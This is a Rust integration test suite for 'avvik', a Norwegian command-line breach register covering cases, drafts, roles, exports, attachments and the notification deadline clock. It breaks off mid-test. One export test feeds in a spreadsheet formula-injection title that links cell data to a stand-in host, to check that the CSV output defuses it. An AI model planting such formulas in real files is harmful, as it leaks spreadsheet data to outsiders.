//! The `avvik` binary as a user runs it: JSON in, JSON out, one-line errors.

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use serde_json::Value;

const PASSWORD: &str = "et langt passord";
/// Every test store is encrypted under this passphrase unless a test says otherwise.
const PASSPHRASE: &str = "korrekt hest batteri stift";

struct Cli {
    /// Shared by handles for other users of the same store.
    dir: std::rc::Rc<tempfile::TempDir>,
    /// Who the commands act as.
    user: Option<String>,
}

impl Cli {
    /// A store set up with `avvik init`; commands act as its general manager, `leder`.
    fn new() -> Cli {
        let cli = Cli::bare();
        cli.ok(
            &[
                "init",
                "--org-name",
                "Fjordtech AS",
                "--org-number",
                "974 760 673",
                "--username",
                "leder",
                "--name",
                "Lise Leder",
            ],
            None,
        );
        Cli {
            user: Some("leder".into()),
            ..cli
        }
    }

    /// No store at all.
    fn bare() -> Cli {
        Cli {
            dir: std::rc::Rc::new(tempfile::tempdir().unwrap()),
            user: None,
        }
    }

    /// The same store, acting as another user.
    fn as_user(&self, user: &str) -> Cli {
        Cli {
            dir: self.dir.clone(),
            user: Some(user.into()),
        }
    }

    fn db(&self) -> PathBuf {
        self.dir.path().join("avvik.sqlite3")
    }

    fn run_with_env(&self, args: &[&str], env: &[(&str, &str)]) -> Output {
        let mut cmd = self.command(args);
        for (k, v) in env {
            cmd.env(k, v);
        }
        cmd.stdin(Stdio::null()).output().unwrap()
    }

    fn run(&self, args: &[&str], stdin: Option<&str>) -> Output {
        let mut child = self.command(args).spawn().unwrap();
        let mut pipe = child.stdin.take().unwrap();
        // The CLI may stop reading early (an oversized document); a broken pipe is expected then.
        let _ = pipe.write_all(stdin.unwrap_or("").as_bytes());
        drop(pipe);
        child.wait_with_output().unwrap()
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_avvik"));
        cmd.arg("--db")
            .arg(self.db())
            .args(args)
            .env_remove("AVVIK_DB")
            .env_remove("AVVIK_USER")
            .env("AVVIK_PASSWORD", PASSWORD)
            .env("AVVIK_NEW_PASSWORD", PASSWORD)
            .env("AVVIK_PASSPHRASE", PASSPHRASE)
            .env("AVVIK_NO_KEYCHAIN", "1")
            .env_remove("AVVIK_NEW_PASSPHRASE")
            .env_remove("AVVIK_BACKUP_PASSPHRASE")
            .env("AVVIK_DATA_DIR", self.dir.path().join("must-not-be-used"))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        if let Some(user) = &self.user {
            cmd.env("AVVIK_USER", user);
        }
        cmd
    }

    fn ok(&self, args: &[&str], stdin: Option<&str>) -> Value {
        let out = self.run(args, stdin);
        assert!(
            out.status.success(),
            "{args:?} failed: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_slice(&out.stdout).unwrap()
    }

    /// Runs a command that must succeed and print nothing.
    fn ok_silent(&self, args: &[&str]) {
        let out = self.run(args, None);
        assert!(
            out.status.success(),
            "{args:?} failed: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(out.stdout.is_empty());
    }

    /// Runs a command that must fail; returns its one-line error.
    fn fails(&self, args: &[&str], stdin: Option<&str>) -> String {
        let out = self.run(args, stdin);
        assert!(!out.status.success(), "{args:?} unexpectedly succeeded");
        assert!(out.stdout.is_empty(), "a failed command printed to stdout");
        let err = String::from_utf8(out.stderr).unwrap();
        assert_eq!(err.lines().count(), 1, "error is not one line: {err:?}");
        assert!(err.starts_with("avvik: error: "), "{err}");
        err
    }

    fn count(&self) -> usize {
        self.ok(&["case", "list"], None).as_array().unwrap().len()
    }

    /// Adds an employee, `ansatt`, with the shared password.
    fn with_employee(self) -> Cli {
        self.ok(
            &[
                "user",
                "add",
                "--username",
                "ansatt",
                "--name",
                "Åse Ansatt",
                "--role",
                "employee",
            ],
            None,
        );
        self
    }

    /// Submits the misdirected e-mail and then the lost laptop from docs/examples/.
    fn with_example_cases(self) -> Cli {
        for name in ["misdirected-email.json", "lost-laptop.json"] {
            self.ok(&["case", "new", "--json", "-"], Some(&example(name)));
        }
        self
    }

    /// Adds the systems the example documents name.
    fn with_systems(self) -> Cli {
        for name in ["Microsoft 365", "Tripletex", "Destinet CMS"] {
            self.ok(&["system", "add", "--name", name], None);
        }
        self
    }
}

fn example(name: &str) -> String {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../docs/examples")
        .join(name);
    std::fs::read_to_string(path).unwrap()
}

/// A case (or a list of cases) without the clock's `seconds_left`, which depends on
/// the moment a command ran.
fn without_seconds(mut v: Value) -> Value {
    match &mut v {
        Value::Array(items) => {
            for item in items {
                *item = without_seconds(item.take());
            }
        }
        Value::Object(map) => {
            if let Some(Value::Object(clock)) = map.get_mut("clock") {
                clock.remove("seconds_left");
            }
        }
        _ => {}
    }
    v
}

/// A complete document with this title and description, based on an example.
fn complete(title: &str, description: &str) -> String {
    let mut doc: Value = serde_json::from_str(&example("misdirected-email.json")).unwrap();
    doc["title"] = Value::from(title);
    doc["description"] = Value::from(description);
    doc.to_string()
}

#[test]
fn new_then_list_query_round_trips_norwegian_text() {
    let cli = Cli::new().with_systems();
    let doc = complete(
        "Blåbærsyltetøy-listen på avveie",
        "Ærlig talt, Øyvind på Åsane sendte den.",
    );
    let created = cli.ok(&["case", "new", "--json", "-"], Some(&doc));
    assert_eq!(created["id"].as_str().unwrap().len(), 36);
    assert!(created["reference"].as_str().unwrap().starts_with("AVVIK-"));
    assert_eq!(created["status"], "reported");
    assert_eq!(created["title"], "Blåbærsyltetøy-listen på avveie");

    // The clock's seconds left depend on when each command ran; the rest must be equal.
    let created = without_seconds(created);
    let found = without_seconds(cli.ok(&["case", "list", "--query", "ØYVIND PÅ ÅSANE"], None));
    assert_eq!(found.as_array().unwrap(), std::slice::from_ref(&created));
    assert_eq!(
        cli.ok(&["case", "list", "--query", "blabaer"], None),
        Value::Array(vec![])
    );
    assert_eq!(
        cli.ok(&["case", "list", "--query", "phishing"], None),
        Value::Array(vec![])
    );

    let by_ref = without_seconds(cli.ok(
        &["case", "show", created["reference"].as_str().unwrap()],
        None,
    ));
    let by_id = without_seconds(cli.ok(&["case", "show", created["id"].as_str().unwrap()], None));
    assert_eq!(by_ref, created);
    assert_eq!(by_id, created);
}

#[test]
fn every_example_document_is_accepted_from_a_file() {
    let cli = Cli::new().with_systems();
    let examples = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/examples");
    for entry in std::fs::read_dir(&examples).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            continue; // assessments/: not case documents
        }
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        let mut args = vec!["case", "new", "--json", path.to_str().unwrap()];
        if name.starts_with("draft-") {
            args.push("--draft");
        }
        let case = cli.ok(&args, None);
        let expected = if name.starts_with("draft-") {
            "draft"
        } else {
            "reported"
        };
        assert_eq!(case["status"], expected, "{name}");
    }
    let misdirected = cli.ok(&["case", "list", "--query", "lønnsslipper"], None);
    assert_eq!(
        misdirected[0]["systems"],
        serde_json::json!(["Microsoft 365"])
    );
    assert_eq!(
        misdirected[0]["subjects_count"],
        serde_json::json!({"kind": "exact", "value": 3})
    );
    // Times are kept in UTC.
    assert_eq!(misdirected[0]["discovered_at"], "2026-11-20T10:40:00Z");
}

#[test]
fn a_draft_is_distinguishable_and_submits_with_the_same_rules() {
    let cli = Cli::new().with_systems();
    let draft = cli.ok(
        &["case", "new", "--draft", "--json", "-"],
        Some(&example("draft-first-minutes.json")),
    );
    assert_eq!(
        (draft["status"].as_str(), draft["reference"].as_str()),
        (Some("draft"), None)
    );
    let id = draft["id"].as_str().unwrap();

    let err = cli.fails(&["case", "submit", id], None);
    for field in [
        "systems",
        "nature",
        "cause",
        "subjects_count",
        "discovered_at",
        "reporter.name",
    ] {
        assert!(
            err.contains(&format!("{field}: ")),
            "{field} not named in {err}"
        );
    }
    assert_eq!(
        cli.ok(&["case", "list", "--status", "draft"], None)
            .as_array()
            .unwrap()
            .len(),
        1
    );
    assert_eq!(
        cli.ok(&["case", "list", "--status", "reported"], None),
        Value::Array(vec![])
    );

    // The same document without --draft is refused for the same reasons.
    let err = cli.fails(
        &["case", "new", "--json", "-"],
        Some(&example("draft-first-minutes.json")),
    );
    assert!(
        err.contains("systems: at least one system is required to submit"),
        "{err}"
    );
    assert_eq!(cli.count(), 1);
}

#[test]
fn submitting_a_completed_draft_gives_it_a_reference_once() {
    let cli = Cli::new().with_systems();
    let draft = cli.ok(
        &["case", "new", "--draft", "--json", "-"],
        Some(&complete("Utkast", "Ferdig utfylt")),
    );
    let id = draft["id"].as_str().unwrap();
    let submitted = cli.ok(&["case", "submit", id], None);
    assert_eq!(submitted["status"], "reported");
    assert!(
        submitted["reference"]
            .as_str()
            .unwrap()
            .starts_with("AVVIK-")
    );
    assert!(submitted["submitted_at"].is_string());
    let err = cli.fails(&["case", "submit", id], None);
    assert!(err.contains("has already been submitted"), "{err}");
}

#[test]
fn bad_input_is_a_one_line_error_and_writes_nothing() {
    let cli = Cli::new();
    let too_long = format!(r#"{{"title": "{}"}}"#, "x".repeat(201));
    let cases: &[(&str, &str)] = &[
        ("{\"title\": ", "EOF while parsing"),
        (
            r#"{"title": "T", "alvorlighet": 3}"#,
            "unknown field `alvorlighet`",
        ),
        (
            r#"{"description": "uten tittel"}"#,
            "title: a title is required to submit",
        ),
        (
            r#"{"title": "   "}"#,
            "title: a title is required to submit",
        ),
        (&too_long, "title: is 201 characters long; the limit is 200"),
        (r#"{"title": 7}"#, "invalid type"),
        (
            r#"{"subjects_count": {"kind": "exact", "value": -4}}"#,
            "subjects_count.value: must not be negative",
        ),
        (
            r#"{"discovered_at": "2999-01-01T00:00:00Z"}"#,
            "discovered_at: must not be in the future",
        ),
        ("[]", "must be a JSON object"),
        (r#"[null, "Tittel fra en liste"]"#, "must be a JSON object"),
    ];
    for (doc, expected) in cases {
        let err = cli.fails(&["case", "new", "--json", "-"], Some(doc));
        assert!(err.contains(expected), "for {doc:?}: {err}");
    }
    assert_eq!(cli.count(), 0, "refused input wrote nothing");

    let cli = cli.with_systems();
    cli.ok(
        &["case", "new", "--json", "-"],
        Some(&complete("Ekte sak", "Noe skjedde")),
    );
    cli.fails(&["case", "new", "--json", "-"], Some(r#"{"title": ""}"#));
    let err = cli.fails(
        &["case", "new", "--draft", "--json", "-"],
        Some(r#"{"systems": ["Salesforce"]}"#),
    );
    assert!(
        err.contains("systems[0]: `Salesforce` is not in the system register"),
        "{err}"
    );
    assert_eq!(cli.count(), 1);

    let err = cli.fails(&["case", "new", "--json", "/no/such/file.json"], None);
    assert!(err.contains("cannot read /no/such/file.json"), "{err}");
    let err = cli.fails(&["case", "show", "AVVIK-2026-0999"], None);
    assert!(
        err.contains("no case has the id or reference `AVVIK-2026-0999`"),
        "{err}"
    );
    let err = cli.fails(
        &["case", "show", "00000000-0000-4000-8000-000000000000"],
        None,
    );
    assert!(err.contains("no case has the id"), "{err}");
    let err = cli.fails(&["case", "show", "sak-3"], None);
    assert!(err.contains("neither a case id"), "{err}");
    assert_eq!(cli.count(), 1);
}

#[test]
fn the_system_register_refuses_duplicates_and_bad_categories() {
    let cli = Cli::new();
    let added = cli.ok(
        &[
            "system",
            "add",
            "--name",
            "Tripletex",
            "--purpose",
            "Regnskap og lønn",
            "--data-category",
            "economic_financial",
            "--data-category",
            "national_id_number",
            "--processor",
            "Tripletex AS",
        ],
        None,
    );
    assert_eq!(
        added["data_categories"],
        serde_json::json!(["national_id_number", "economic_financial"])
    );
    let err = cli.fails(&["system", "add", "--name", "tripletex"], None);
    assert!(err.contains("already in the register"), "{err}");
    let out = cli.run(
        &[
            "system",
            "add",
            "--name",
            "X",
            "--data-category",
            "shoe_size",
        ],
        None,
    );
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("unknown data category"));
    let list = cli.ok(&["system", "list"], None);
    assert_eq!(list.as_array().unwrap().len(), 1);
}

#[test]
fn list_filters_by_status_system_category_and_date() {
    let cli = Cli::new().with_systems().with_example_cases();
    let titles = |args: &[&str]| -> Vec<String> {
        let mut all = vec!["case", "list"];
        all.extend_from_slice(args);
        cli.ok(&all, None)
            .as_array()
            .unwrap()
            .iter()
            .map(|c| c["title"].as_str().unwrap().to_owned())
            .collect()
    };
    assert_eq!(
        titles(&["--system", "tripletex"]),
        ["Bærbar PC glemt på toget"]
    );
    assert_eq!(
        titles(&["--category", "sent_by_mistake"]),
        ["Lønnsslipper sendt til feil mottaker"]
    );
    assert_eq!(
        titles(&["--sort", "title"]),
        [
            "Bærbar PC glemt på toget",
            "Lønnsslipper sendt til feil mottaker"
        ]
    );
    assert!(titles(&["--to", "2000-01-01"]).is_empty());
    assert_eq!(titles(&["--from", "2000-01-01"]).len(), 2);
    let out = cli.run(&["case", "list", "--category", "alien_abduction"], None);
    assert!(!out.status.success());
}

#[test]
fn an_oversized_document_is_refused() {
    let cli = Cli::new();
    let huge = format!(
        r#"{{"title": "T", "description": "{}"}}"#,
        "a".repeat(2 * 1024 * 1024)
    );
    let err = cli.fails(&["case", "new", "--json", "-"], Some(&huge));
    assert!(err.contains("larger than"), "{err}");
}

#[test]
fn without_a_store_only_init_is_accepted_and_nothing_is_created() {
    let cli = Cli {
        user: Some("leder".into()),
        ..Cli::bare()
    };
    for args in [
        &["case", "list"][..],
        &["system", "list"],
        &["case", "show", "AVVIK-2026-0001"],
    ] {
        let err = cli.fails(args, None);
        assert!(err.contains("set one up with `avvik init`"), "{err}");
    }
    assert!(!cli.db().exists());
}

#[test]
fn init_sets_up_once_and_every_other_command_needs_a_signed_in_user() {
    let cli = Cli::new();
    let err = cli.fails(
        &[
            "init",
            "--org-name",
            "Annet AS",
            "--org-number",
            "974761467",
            "--username",
            "ny",
            "--name",
            "Ny",
        ],
        None,
    );
    assert!(err.contains("already set up"), "{err}");
    let nobody = Cli {
        dir: cli.dir.clone(),
        user: None,
    };
    let err = nobody.fails(&["case", "list"], None);
    assert!(err.contains("--user USERNAME or AVVIK_USER"), "{err}");
    let out = cli.as_user("leder").run(&["case", "list"], None);
    assert!(out.status.success());
    let mut wrong = cli.as_user("leder");
    wrong.user = Some("ukjent".into());
    let err = wrong.fails(&["case", "list"], None);
    assert!(
        err.contains("the user name or the password is wrong"),
        "{err}"
    );
    let bad = Cli::bare();
    let err = bad.fails(
        &[
            "init",
            "--org-name",
            "X AS",
            "--org-number",
            "123456789",
            "--username",
            "a.b",
            "--name",
            "A",
        ],
        None,
    );
    assert!(
        err.contains("org.org_number") && err.contains("not a valid organisation number"),
        "{err}"
    );
    assert!(!bad.db().exists(), "refused set-up wrote nothing");
}

#[test]
fn roles_decide_what_a_user_may_do_from_the_cli_too() {
    let cli = Cli::new().with_systems().with_employee();
    let users = cli.ok(&["user", "list"], None);
    assert_eq!(users.as_array().unwrap().len(), 2);
    let ansatt = cli.as_user("ansatt");
    let own = ansatt.ok(
        &["case", "new", "--json", "-"],
        Some(&example("misdirected-email.json")),
    );
    cli.ok(
        &["case", "new", "--json", "-"],
        Some(&example("lost-laptop.json")),
    );
    let seen: Vec<_> = ansatt
        .ok(&["case", "list"], None)
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["id"].clone())
        .collect();
    assert_eq!(seen, [own["id"].clone()]);
    for args in [
        &["case", "export"][..],
        &["user", "list"],
        &[
            "user",
            "add",
            "--username",
            "x",
            "--name",
            "X",
            "--role",
            "admin",
        ],
    ] {
        let err = ansatt.fails(args, None);
        assert!(err.contains("ansatt may not"), "{args:?}: {err}");
    }
    assert_eq!(
        cli.ok(&["user", "list"], None).as_array().unwrap().len(),
        2,
        "nothing was added"
    );
}

#[test]
fn a_newer_store_is_refused_naming_both_versions() {
    let cli = Cli::new().with_systems();
    raw_store(&cli.db())
        .pragma_update(None, "user_version", 99)
        .unwrap();
    let bytes = std::fs::read(cli.db()).unwrap();
    let err = cli.fails(&["case", "list"], None);
    assert!(
        err.contains("schema version 99")
            && err.contains(&format!(
                "versions up to {}",
                avvik_store_sqlite::SCHEMA_VERSION
            )),
        "{err}"
    );
    assert_eq!(std::fs::read(cli.db()).unwrap(), bytes);
}

#[test]
fn help_describes_every_command() {
    let cli = Cli::new();
    for args in [
        &["--help"][..],
        &["case", "--help"],
        &["case", "new", "--help"],
        &["case", "submit", "--help"],
        &["case", "show", "--help"],
        &["case", "list", "--help"],
        &["system", "--help"],
        &["system", "add", "--help"],
        &["system", "list", "--help"],
        &["handle", "--help"],
        &["handle", "assess", "--help"],
        &["handle", "decide", "--help"],
        &["handle", "close", "--help"],
        &["measure", "add", "--help"],
        &["measure", "update", "--help"],
    ] {
        let out = cli.run(args, None);
        assert!(out.status.success());
        let text = String::from_utf8(out.stdout).unwrap();
        assert!(text.contains("Usage: avvik"), "{args:?}: {text}");
    }
    let out = String::from_utf8(cli.run(&["case", "new", "--help"], None).stdout).unwrap();
    assert!(
        out.contains("--json") && out.contains("standard input") && out.contains("--draft"),
        "{out}"
    );
    assert!(
        out.contains("at most 200 characters") && out.contains("docs/examples/"),
        "{out}"
    );
}

#[test]
fn the_register_exports_as_csv_for_a_norwegian_spreadsheet_and_as_json() {
    let cli = Cli::new().with_systems().with_example_cases();
    let out = cli.run(
        &["case", "export", "--format", "csv", "--sort", "oldest"],
        None,
    );
    assert!(out.status.success());
    let csv = String::from_utf8(out.stdout).unwrap();
    assert!(csv.starts_with('\u{feff}'));
    let lines: Vec<&str> = csv.split("\r\n").collect();
    assert!(lines[0].contains("Referanse;Status;Tittel"), "{}", lines[0]);
    assert!(
        lines[1].contains(";Lønnsslipper sendt til feil mottaker;Microsoft 365;"),
        "{}",
        lines[1]
    );
    assert!(
        lines[2].contains("Bærbar PC glemt på toget"),
        "{}",
        lines[2]
    );
    // 08:15 +01:00 stays 08:15 in Oslo.
    assert!(lines[1].contains("2026-11-20 08:15"), "{}", lines[1]);

    let out = cli.run(
        &[
            "case",
            "export",
            "--format",
            "csv",
            "--lang",
            "en",
            "--system",
            "Tripletex",
        ],
        None,
    );
    let csv = String::from_utf8(out.stdout).unwrap();
    assert!(
        csv.contains("Reference;Status;Title") && csv.contains("Lost or stolen device"),
        "{csv}"
    );
    assert_eq!(csv.matches("\r\n").count(), 2, "header and one case");

    let file = cli.dir.path().join("register.json");
    cli.ok_silent(&[
        "case",
        "export",
        "--format",
        "json",
        "--output",
        file.to_str().unwrap(),
    ]);
    let json: Value = serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
    assert_eq!(json.as_array().unwrap().len(), 2);
    let mode =
        std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(&file).unwrap().permissions());
    assert_eq!(mode & 0o777, 0o600, "an export is private like the store");
    // An existing file is never overwritten.
    let err = cli.fails(
        &["case", "export", "--output", file.to_str().unwrap()],
        None,
    );
    assert!(
        err.contains("cannot write") && err.contains("exists"),
        "{err}"
    );
    assert_eq!(
        serde_json::from_str::<Value>(&std::fs::read_to_string(&file).unwrap()).unwrap(),
        json
    );

    // A document saved by Notepad, with a byte-order mark, is read as the JSON it is.
    cli.ok(
        &["case", "new", "--draft", "--json", "-"],
        Some("\u{feff}{\"title\": \"Fra Notisblokk\"}"),
    );
    // A title a spreadsheet would run as a formula comes out as text.
    cli.ok(
        &["case", "new", "--draft", "--json", "-"],
        Some(r#"{"title": " =HYPERLINK(\"http://x.example/?\"&A1,\"Klikk\")"}"#),
    );
    let out = cli.run(&["case", "export", "--format", "csv"], None);
    let csv = String::from_utf8(out.stdout).unwrap();
    assert!(
        csv.contains(r#";"'=HYPERLINK(""http://x.example/?""&A1,""Klikk"")";"#),
        "{csv}"
    );
}

#[test]
fn attachments_go_in_and_come_out_unchanged() {
    let cli = Cli::new().with_systems();
    let case = cli.ok(
        &["case", "new", "--draft", "--json", "-"],
        Some(r#"{"title": "Med vedlegg"}"#),
    );
    let id = case["id"].as_str().unwrap();
    let source = cli.dir.path().join("skjermbilde æøå.png");
    let bytes: Vec<u8> = (0..=255u8).cycle().take(70_000).collect();
    std::fs::write(&source, &bytes).unwrap();
    let added = cli.ok(&["attachment", "add", id, source.to_str().unwrap()], None);
    assert_eq!(added["file_name"], "skjermbilde æøå.png");
    assert_eq!(added["size"], 70_000);
    assert_eq!(added["sha256"].as_str().unwrap().len(), 64);

    let listed = cli.ok(&["attachment", "list", id], None);
    assert_eq!(listed.as_array().unwrap().len(), 1);
    let out = cli.dir.path().join("tilbake.png");
    cli.ok_silent(&[
        "attachment",
        "get",
        added["id"].as_str().unwrap(),
        "--output",
        out.to_str().unwrap(),
    ]);
    assert_eq!(std::fs::read(&out).unwrap(), bytes);
    let err = cli.fails(
        &[
            "attachment",
            "get",
            added["id"].as_str().unwrap(),
            "--output",
            out.to_str().unwrap(),
        ],
        None,
    );
    assert!(err.contains("cannot write"), "{err}");

    let empty = cli.dir.path().join("tom.txt");
    std::fs::write(&empty, b"").unwrap();
    let err = cli.fails(&["attachment", "add", id, empty.to_str().unwrap()], None);
    assert!(err.contains("file: the file is empty"), "{err}");
    let err = cli.fails(
        &[
            "attachment",
            "add",
            "AVVIK-2026-0999",
            source.to_str().unwrap(),
        ],
        None,
    );
    assert!(err.contains("no case has the id or reference"), "{err}");
    let err = cli.fails(&["attachment", "get", "ikke-en-id", "--output", "x"], None);
    assert!(err.contains("not an attachment id"), "{err}");
    assert_eq!(
        cli.ok(&["attachment", "list", id], None)
            .as_array()
            .unwrap()
            .len(),
        1
    );
}

#[test]
fn the_general_manager_acknowledges_a_submitted_case_from_the_inbox() {
    let cli = Cli::new().with_systems().with_employee();
    let ansatt = cli.as_user("ansatt");
    let case = ansatt.ok(
        &["case", "new", "--json", "-"],
        Some(&example("misdirected-email.json")),
    );
    let inbox = cli.ok(&["inbox", "list"], None);
    assert_eq!(inbox[0]["reference"], case["reference"]);
    assert!(inbox[0]["acknowledged_at"].is_null());
    let err = ansatt.fails(&["inbox", "list"], None);
    assert!(
        err.contains("may not read the general manager's inbox"),
        "{err}"
    );
    let seen = cli.ok(&["inbox", "ack", inbox[0]["id"].as_str().unwrap()], None);
    assert!(seen["acknowledged_at"].is_string());
    let shown = cli.ok(&["case", "show", case["id"].as_str().unwrap()], None);
    assert_eq!(shown["notices"][0]["recipient"], "Lise Leder");
    assert_eq!(
        shown["notices"][0]["acknowledged_at"],
        seen["acknowledged_at"]
    );
}

fn assessment_example() -> String {
    example("assessments/misdirected-email.json")
}

#[test]
fn the_general_manager_handles_a_case_from_report_to_closing() {
    let cli = Cli::new().with_systems().with_employee();
    let ansatt = cli.as_user("ansatt");
    let case = ansatt.ok(
        &["case", "new", "--json", "-"],
        Some(&example("misdirected-email.json")),
    );
    let reference = case["reference"].as_str().unwrap();

    // The employee may not assess; nothing changes.
    let err = ansatt.fails(
        &["handle", "assess", reference, "--json", "-"],
        Some(&assessment_example()),
    );
    assert!(
        err.contains("may not assess cases; that needs the role handler"),
        "{err}"
    );
    let err = cli.fails(&["handle", "close", reference, "--lessons", "Lært"], None);
    assert!(
        err.contains("cannot be closed yet: it has not been assessed"),
        "{err}"
    );

    let h = cli.ok(
        &["handle", "assess", reference, "--json", "-"],
        Some(&assessment_example()),
    );
    assert_eq!(h["status"], "handling");
    assert_eq!(h["assessment"]["enisa"]["score"], 3.25);
    assert_eq!(h["assessment"]["presumption"], "high_risk");
    assert_eq!(h["assessment"]["departs"], true);

    let err = cli.fails(
        &[
            "handle", "decide", reference, "--notify", "no", "--inform", "no",
        ],
        None,
    );
    assert!(err.contains("Datatilsynet must be notified"), "{err}");
    let h = cli.ok(
        &[
            "handle", "decide", reference, "--notify", "yes", "--inform", "no",
        ],
        None,
    );
    assert_eq!(h["decision"]["decision"]["notify_authority"], true);

    let err = cli.fails(
        &[
            "measure",
            "add",
            reference,
            "--kind",
            "immediate",
            "--description",
            "Slett",
            "--owner",
            "ingen",
            "--due",
            "2026-11-20",
        ],
        None,
    );
    assert!(err.contains("no user is called `ingen`"), "{err}");
    cli.ok(
        &[
            "measure",
            "add",
            reference,
            "--kind",
            "immediate",
            "--description",
            "Be mottakeren slette e-posten",
            "--owner",
            "leder",
            "--due",
            "2026-11-20",
        ],
        None,
    );
    cli.ok(
        &[
            "measure",
            "add",
            reference,
            "--kind",
            "prevent",
            "--description",
            "Lønnsslipper bare i portalen",
            "--owner",
            "ansatt",
            "--due",
            "2027-01-31",
        ],
        None,
    );
    let err = cli.fails(&["handle", "close", reference, "--lessons", "Lært"], None);
    assert!(
        err.contains("has not approved the measures") && err.contains("measure 1 is still open"),
        "{err}"
    );
    let h = cli.ok(&["handle", "approve", reference], None);
    assert_eq!(h["approval"]["current"], true);
    cli.ok(
        &["measure", "update", reference, "1", "--status", "done"],
        None,
    );
    // The owner moves their own measure forward, but may not move its due day.
    ansatt.ok(
        &[
            "measure",
            "update",
            reference,
            "2",
            "--status",
            "in_progress",
        ],
        None,
    );
    let err = ansatt.fails(
        &["measure", "update", reference, "2", "--due", "2027-06-30"],
        None,
    );
    assert!(err.contains("may only move measure 2"), "{err}");
    let measures = cli.ok(&["measure", "list", reference], None);
    assert_eq!(measures[1]["status"], "in_progress");
    assert_eq!(measures[1]["due"], "2027-01-31");

    // Datatilsynet is to be notified: closing waits for a complete filing.
    let err = cli.fails(&["handle", "close", reference, "--lessons", "Lært"], None);
    assert!(err.contains("nothing is filed yet"), "{err}");
    let h = cli.ok(
        &[
            "filing",
            "add",
            reference,
            "--kind",
            "complete",
            "--channel",
            "altinn",
        ],
        None,
    );
    assert_eq!(h["filings"][0]["kind"], "complete");
    assert_eq!(h["clock"]["state"], "met");
    let h = cli.ok(
        &[
            "filing",
            "receipt",
            reference,
            "1",
            "--altinn",
            "AR987654321",
        ],
        None,
    );
    assert_eq!(h["filings"][0]["altinn_reference"], "AR987654321");
    let err = cli.fails(
        &["filing", "receipt", reference, "1", "--altinn", "AR1"],
        None,
    );
    assert!(err.contains("set once"), "{err}");
    assert_eq!(
        cli.ok(&["filing", "list", reference], None)
            .as_array()
            .unwrap()
            .len(),
        1
    );
    let err = cli.fails(&["handle", "close", reference, "--lessons", "  "], None);
    assert!(err.contains("closing.lessons_learned"), "{err}");
    let h = cli.ok(
        &[
            "handle",
            "close",
            reference,
            "--lessons",
            "Automatisk utfylling av adresser er en risiko.",
        ],
        None,
    );
    assert_eq!(h["status"], "closed");
    assert!(h["blockers"].as_array().unwrap().is_empty());
    let listed = cli.ok(&["case", "list", "--status", "closed"], None);
    assert_eq!(listed[0]["reference"], reference);
    cli.ok(
        &["handle", "comment", reference, "--text", "Godt håndtert."],
        None,
    );
    let err = ansatt.fails(&["handle", "comment", reference, "--text", "Hei"], None);
    assert!(err.contains("may not comment on cases"), "{err}");
}

#[test]
fn an_admin_sets_the_contact_point_and_the_mail_settings_and_the_password_never_shows() {
    let cli = Cli::new().with_employee();
    let org = cli.ok(
        &[
            "org",
            "set",
            "--contact-name",
            "Ola Ombud",
            "--contact-title",
            "Personvernombud",
            "--contact-email",
            "ombud@fjordtech.no",
        ],
        None,
    );
    assert_eq!(org["contact"]["name"], "Ola Ombud");
    assert!(org["general_manager"].is_string());
    let err = cli.fails(&["org", "set", "--contact-email", "ikke-en-adresse"], None);
    assert!(err.contains("org.contact.email"), "{err}");
    let err = cli
        .as_user("ansatt")
        .fails(&["org", "set", "--name", "Annet AS"], None);
    assert!(
        err.contains("may not change the organisation's settings"),
        "{err}"
    );

    let out = cli.run_with_env(
        &[
            "mail",
            "set",
            "--host",
            "smtp.fjordtech.no",
            "--username",
            "avvik",
            "--sender",
            "avvik@fjordtech.no",
        ],
        &[("AVVIK_SMTP_PASSWORD", "smtp-hemmelig")],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let shown = cli.ok(&["mail", "show"], None);
    assert_eq!(shown["port"], 587);
    assert_eq!(shown["has_password"], true);
    assert!(!shown.to_string().contains("smtp-hemmelig"));
    let err = cli.fails(
        &[
            "mail",
            "set",
            "--host",
            "smtp.fjordtech.no",
            "--security",
            "none",
            "--sender",
            "a@b.no",
        ],
        None,
    );
    assert!(
        err.contains("only allowed to a relay on this machine"),
        "{err}"
    );
    let err = cli.as_user("ansatt").fails(&["mail", "show"], None);
    assert!(err.contains("may not see the e-mail settings"), "{err}");
    assert_eq!(cli.ok(&["mail", "send"], None)["sent"], 0);
}

#[test]
fn the_clock_prints_the_deadline_in_utc_and_oslo_time_and_follows_the_awareness() {
    let cli = Cli::new().with_systems();
    let case = cli.ok(
        &["case", "new", "--json", "-"],
        Some(&example("misdirected-email.json")),
    );
    let reference = case["reference"].as_str().unwrap();
    let submitted =
        chrono::DateTime::parse_from_rfc3339(case["submitted_at"].as_str().unwrap()).unwrap();
    let at = (submitted + chrono::Duration::hours(1)).to_rfc3339();
    let clock = cli.ok(&["clock", reference, "--at", &at], None);
    assert_eq!(clock["state"], "running");
    assert_eq!(clock["seconds_left"], 71 * 3600);
    assert_eq!(clock["hours"], 72);
    assert!(
        clock["deadline_local"]
            .as_str()
            .unwrap()
            .ends_with("+01:00"),
        "{clock}"
    );

    // The misdirected e-mail was discovered at 11:40 on 20 November; the manager records
    // that as the moment of awareness. Evaluated three days later, the deadline has passed.
    let err = cli.fails(
        &[
            "handle",
            "aware",
            reference,
            "--at",
            "2026-11-20T11:40:00+01:00",
        ],
        None,
    );
    assert!(err.contains("aware.reason"), "{err}");
    cli.ok(
        &[
            "handle",
            "aware",
            reference,
            "--at",
            "2026-11-20T11:40:00+01:00",
            "--reason",
            "Regnskapsføreren ringte da e-posten kom.",
        ],
        None,
    );
    let clock = cli.ok(
        &["clock", reference, "--at", "2026-11-23T12:40:00+01:00"],
        None,
    );
    assert_eq!(clock["deadline_at"], "2026-11-23T10:40:00Z");
